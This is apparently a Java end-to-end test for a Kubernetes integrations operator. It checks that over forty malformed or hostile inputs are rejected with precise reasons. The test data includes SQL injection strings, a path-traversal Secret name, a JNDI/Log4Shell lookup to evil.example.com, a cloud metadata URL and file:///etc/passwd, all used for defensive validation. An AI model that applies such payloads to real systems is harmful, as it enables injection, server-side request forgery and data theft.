package io.mdbops.integrations.resilience;

import static io.mdbops.integrations.testing.OperatorHarness.CONNECTION;
import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.mdbops.integrations.api.v1alpha1.ConditionReason;
import io.mdbops.integrations.api.v1alpha1.ConnectionSecretReference;
import io.mdbops.integrations.api.v1alpha1.IntegrationType;
import io.mdbops.integrations.api.v1alpha1.PagerDutySpec;
import io.mdbops.integrations.api.v1alpha1.PrometheusScheme;
import io.mdbops.integrations.api.v1alpha1.SecretKeySelector;
import io.mdbops.integrations.api.v1alpha1.ThirdPartyIntegration;
import io.mdbops.integrations.testing.Fixtures;
import io.mdbops.integrations.testing.OperatorHarness;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Forty-odd malformed or hostile resources and Secrets at once: each gets a precise reason and
 * message, none that is invalid reaches the API, hostile-looking but valid data passes through
 * untouched, and a healthy resource created in the middle of it all is served as usual.
 */
class HostileInputEndToEndTest {

  static OperatorHarness h;

  @BeforeAll
  static void start() {
    h = OperatorHarness.start();
  }

  @AfterAll
  static void stop() {
    h.close();
  }

  /** Where a case lives, and the knobs it turns. */
  static final class Ctx {
    String ns;
    String project;
    ThirdPartyIntegration resource;
    Map<String, String> credentials;
    Map<String, String> rawData;
    Map<String, String> connection;
    boolean createCredentials = true;
  }

  record Case(String name, ConditionReason reason, String fragment, Consumer<Ctx> setup) {}

  static Case spec(String name, String fragment, Consumer<ThirdPartyIntegration> change) {
    return new Case(name, ConditionReason.InvalidSpec, fragment, c -> change.accept(c.resource));
  }

  static Case secret(String name, ConditionReason reason, String fragment, Consumer<Ctx> change) {
    return new Case(name, reason, fragment, change);
  }

  static Case connection(String name, ConditionReason reason, String fragment, Consumer<Map<String, String>> change) {
    return new Case(name, reason, fragment, c -> change.accept(c.connection));
  }

  static Case accepted(String name, Consumer<Ctx> setup) {
    return new Case(name, ConditionReason.Synced, "desired SLACK", setup);
  }

  static SecretKeySelector token(ThirdPartyIntegration r) {
    return r.getSpec().getSlack().getApiTokenSecretRef();
  }

  static List<Case> cases() {
    List<Case> all = new ArrayList<>();
    all.add(spec("id-short", "spec.projectId \"5e22\"", r -> r.getSpec().setProjectId("5e22")));
    all.add(spec("id-upper", "lower-case hexadecimal", r -> r.getSpec().setProjectId("5E2211C17A3E5A48F5497DE3")));
    all.add(spec("id-non-hex", "lower-case hexadecimal", r -> r.getSpec().setProjectId("zz2211c17a3e5a48f5497de3")));
    all.add(spec("id-injection", "spec.projectId", r -> r.getSpec().setProjectId("5e22'; DROP TABLE groups;--")));
    all.add(spec("id-unicode", "spec.projectId", r -> r.getSpec().setProjectId("\uFF15e2211c17a3e5a48f5497de3")));
    all.add(spec("id-long", "spec.projectId", r -> r.getSpec().setProjectId("5e2211c17a3e5a48f5497de3a")));
    all.add(spec("no-block", "spec.slack", r -> r.getSpec().setSlack(null)));
    all.add(spec("two-blocks", "spec.pagerDuty", r -> r.getSpec().setPagerDuty(
        new PagerDutySpec().withServiceKeySecretRef(new SecretKeySelector("x", "y")))));
    all.add(spec("wrong-block", "spec.type is SLACK", r -> {
      r.getSpec().setSlack(null);
      r.getSpec().setPagerDuty(new PagerDutySpec().withServiceKeySecretRef(new SecretKeySelector("x", "y")));
    }));
    all.add(spec("no-ref", "apiTokenSecretRef", r -> r.getSpec().getSlack().setApiTokenSecretRef(null)));
    all.add(spec("empty-ref-name", "apiTokenSecretRef.name", r -> token(r).setName("")));
    all.add(spec("upper-ref-name", "not a valid Secret name", r -> token(r).setName("Slack-Token")));
    all.add(spec("traversal-ref-name", "not a valid Secret name", r -> token(r).setName("../kube-system/token")));
    all.add(spec("long-ref-name", "apiTokenSecretRef.name", r -> token(r).setName("a".repeat(300))));
    all.add(spec("bad-key", "apiTokenSecretRef.key", r -> token(r).setKey("api token")));
    all.add(spec("empty-team", "spec.slack.teamName", r -> r.getSpec().getSlack().setTeamName("")));
    all.add(spec("huge-team", "spec.slack.teamName", r -> r.getSpec().getSlack().setTeamName("t".repeat(10_000))));
    all.add(spec("long-channel", "spec.slack.channelName", r -> r.getSpec().getSlack().setChannelName("#" + "c".repeat(80))));
    all.add(spec("bad-connection-ref", "connectionSecretRef", r -> r.getSpec().setConnectionSecretRef(
        new ConnectionSecretReference("Not_Valid"))));
    all.add(spec("no-spec", "spec", r -> r.setSpec(null)));
    all.add(spec("no-type", "spec.type", r -> r.getSpec().setType(null)));
    all.add(new Case("prometheus-https-no-pem", ConditionReason.InvalidSpec, "tlsPemPath", c -> {
      c.resource = Fixtures.resource(c.ns, "it", IntegrationType.PROMETHEUS, c.project, CONNECTION);
      c.resource.getSpec().getPrometheus().setScheme(PrometheusScheme.HTTPS);
      c.credentials = Fixtures.credentials(IntegrationType.PROMETHEUS);
    }));
    all.add(new Case("prometheus-no-enabled", ConditionReason.InvalidSpec, "enabled", c -> {
      c.resource = Fixtures.resource(c.ns, "it", IntegrationType.PROMETHEUS, c.project, CONNECTION);
      c.resource.getSpec().getPrometheus().setEnabled(null);
      c.credentials = Fixtures.credentials(IntegrationType.PROMETHEUS);
    }));
    all.add(new Case("new-relic-no-account", ConditionReason.InvalidSpec, "accountId", c -> {
      c.resource = Fixtures.resource(c.ns, "it", IntegrationType.NEW_RELIC, c.project, CONNECTION);
      c.resource.getSpec().getNewRelic().setAccountId(null);
      c.credentials = Fixtures.credentials(IntegrationType.NEW_RELIC);
    }));

    all.add(secret("secret-missing", ConditionReason.SecretNotFound, "does not exist", c -> c.createCredentials = false));
    all.add(secret("key-missing", ConditionReason.SecretKeyMissing, "has no key apiToken",
        c -> c.credentials = Map.of("token", "xoxb-in-the-wrong-key")));
    all.add(secret("value-empty", ConditionReason.SecretKeyMissing, "empty value", c -> c.credentials = Map.of("apiToken", "")));
    all.add(secret("value-blank", ConditionReason.SecretKeyMissing, "empty value", c -> c.credentials = Map.of("apiToken", " \n\t ")));
    all.add(secret("value-inner-newline", ConditionReason.SecretKeyMissing, "control characters",
        c -> c.credentials = Map.of("apiToken", "xoxb-1\nxoxb-2")));
    all.add(secret("value-nul", ConditionReason.SecretKeyMissing, "control characters",
        c -> c.credentials = Map.of("apiToken", "xo\u0000xb")));
    all.add(secret("value-bad-base64", ConditionReason.SecretKeyMissing, "not valid base64",
        c -> c.rawData = Map.of("apiToken", "%%%not-base64%%%")));
    all.add(secret("value-bad-utf8", ConditionReason.SecretKeyMissing, "not valid UTF-8", c -> c.rawData = Map.of("apiToken", "/w==")));
    all.add(secret("value-huge", ConditionReason.SecretKeyMissing, "larger than 16 KiB",
        c -> c.credentials = Map.of("apiToken", "x".repeat(20_000))));

    all.add(connection("connection-missing", ConditionReason.SecretNotFound, "connection Secret", m -> m.clear()));
    all.add(connection("connection-no-private-key", ConditionReason.ConnectionInvalid, "has no key privateKey",
        m -> m.remove("privateKey")));
    all.add(connection("connection-empty-public-key", ConditionReason.ConnectionInvalid, "empty value at key publicKey",
        m -> m.put("publicKey", "")));
    all.add(connection("connection-plain-http", ConditionReason.EndpointNotAllowed, "plain http",
        m -> m.put("baseUrl", "http://om.example.com")));
    all.add(connection("connection-userinfo", ConditionReason.ConnectionInvalid, "user information",
        m -> m.put("baseUrl", "https://user:pw@cloud.mongodb.com")));
    all.add(connection("connection-not-a-url", ConditionReason.ConnectionInvalid, "baseUrl",
        m -> m.put("baseUrl", "not a url at all")));
    all.add(connection("connection-not-allowed", ConditionReason.EndpointNotAllowed, "not on the operator's list",
        m -> m.put("baseUrl", "https://evil.example.com")));
    all.add(connection("connection-metadata-ip", ConditionReason.EndpointNotAllowed, "plain http",
        m -> m.put("baseUrl", "http://169.254.169.254/latest/meta-data")));
    all.add(connection("connection-file-scheme", ConditionReason.ConnectionInvalid, "https",
        m -> m.put("baseUrl", "file:///etc/passwd")));
    all.add(connection("connection-bad-ca", ConditionReason.ConnectionInvalid, "ca.crt",
        m -> m.put("ca.crt", "-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----")));

    all.add(accepted("trailing-newline", c -> c.credentials = Map.of("apiToken", "xoxb-trailing-" + Fixtures.secretValue("t") + "\n")));
    all.add(accepted("jndi-team", c -> c.resource.getSpec().getSlack().setTeamName("${jndi:ldap://evil.example.com/x}")));
    all.add(accepted("unicode-channel", c -> c.resource.getSpec().getSlack().setChannelName("#алерты-🚨")));
    all.add(accepted("sql-channel", c -> c.resource.getSpec().getSlack().setChannelName("#x'; DROP TABLE users;--")));
    return all;
  }

  @Test
  void eachMistakeIsNamedNoneReachesTheApiAndEverythingElseKeepsWorking() throws Exception {
    List<Case> cases = cases();
    assertThat(cases).hasSizeGreaterThanOrEqualTo(40);
    Map<Case, Ctx> contexts = new LinkedHashMap<>();
    for (Case c : cases) {
      Ctx ctx = new Ctx();
      ctx.ns = h.namespace(c.name());
      ctx.project = h.project();
      ctx.resource = Fixtures.resource(ctx.ns, "it", IntegrationType.SLACK, ctx.project, "conn");
      ctx.credentials = Fixtures.credentials(IntegrationType.SLACK);
      ctx.connection = new LinkedHashMap<>(Map.of(
          "publicKey", OperatorHarness.PUBLIC_KEY, "privateKey", h.privateKey, "baseUrl", h.sim.baseUrl()));
      c.setup().accept(ctx);
      contexts.put(c, ctx);
    }
    for (Map.Entry<Case, Ctx> e : contexts.entrySet()) {
      Ctx ctx = e.getValue();
      if (!ctx.connection.isEmpty()) {
        h.create(Fixtures.secret(ctx.ns, "conn", ctx.connection));
      }
      if (ctx.rawData != null) {
        h.create(new SecretBuilder().withNewMetadata().withNamespace(ctx.ns).withName("it-creds").endMetadata()
            .withData(ctx.rawData).build());
      } else if (ctx.createCredentials) {
        h.create(Fixtures.secret(ctx.ns, "it-creds", ctx.credentials));
      }
      h.create(ctx.resource);
    }
    // a healthy resource in the middle of all this is served as usual
    String healthyNs = h.namespace("healthy");
    String healthyProject = h.project();
    h.createWithCredentials(Fixtures.resource(healthyNs, "fine", IntegrationType.OPS_GENIE, healthyProject, CONNECTION));

    for (Map.Entry<Case, Ctx> e : contexts.entrySet()) {
      Case c = e.getKey();
      ThirdPartyIntegration r = h.awaitReason(e.getValue().ns, "it", c.reason());
      assertThat(OperatorHarness.ready(r).getMessage()).as(c.name()).contains(c.fragment());
    }
    h.awaitReason(healthyNs, "fine", ConditionReason.Synced);
    h.awaitQuiet();
    for (Map.Entry<Case, Ctx> e : contexts.entrySet()) {
      Case c = e.getKey();
      if (c.reason() == ConditionReason.Synced) {
        assertThat(h.sim.stored(e.getValue().project, "SLACK")).as(c.name()).isPresent();
      } else {
        assertThat(h.calls(e.getValue().project)).as(c.name() + ": no API call for invalid input").isEmpty();
      }
    }
    Ctx trailing = contexts.entrySet().stream().filter(e -> e.getKey().name().equals("trailing-newline"))
        .findFirst().orElseThrow().getValue();
    assertThat(h.sim.stored(trailing.project, "SLACK").orElseThrow().get("apiToken"))
        .isEqualTo(trailing.credentials.get("apiToken").strip());
    Ctx jndi = contexts.entrySet().stream().filter(e -> e.getKey().name().equals("jndi-team"))
        .findFirst().orElseThrow().getValue();
    assertThat(h.sim.stored(jndi.project, "SLACK").orElseThrow()).containsEntry("teamName", "${jndi:ldap://evil.example.com/x}");
  }
}
